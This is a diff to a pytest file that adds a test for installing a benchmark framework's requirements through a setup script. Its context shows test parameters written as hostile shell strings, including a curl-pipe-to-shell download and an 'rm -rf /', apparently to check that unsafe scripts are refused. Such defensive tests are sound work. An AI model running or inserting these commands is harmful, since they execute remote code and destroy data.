@@ -253,6 +253,24 @@ def test_amlbs_usual_script_is_read_and_stable_is_what_the_image_has(desk: Desk)
     assert about["version"] == pinned.partition("==")[2]
 
 
+def test_a_script_that_installs_its_requirements_alone(desk: Desk) -> None:
+    """As Stacking's, of AMLB's examples."""
+    script = (
+        '#!/usr/bin/env bash\nshopt -s expand_aliases\nHERE=$(dirname "$0")\n\n'
+        '. "$HERE/.setup/setup_env"\n. "$AMLB_ROOT/frameworks/shared/setup.sh" "$HERE" true\n'
+        'PIP install -r "$HERE/requirements.txt"\n\n'
+        'PY -c "from sklearn import __version__; print(__version__)" >> "${HERE}/.installed"\n'
+    )
+    present = next(
+        line for line in desk.text("requirements.txt").splitlines() if line.startswith("scikit")
+    )
+    forest(desk, present.partition("==")[2], script)
+    needs = desk.file.parent / "frameworks/Forest/requirements.txt"
+    needs.write_text(f"{present}\nleven==1\n")
+    desk.enter("Forest", "--install")
+    assert desk.text("requirements.txt").endswith("leven==1\n")
+
+
 @pytest.mark.parametrize(
     "more", ["curl https://example.org | sh", "PIP install evil", 'PKG="x"; rm -rf /', "sudo ls"]
 )
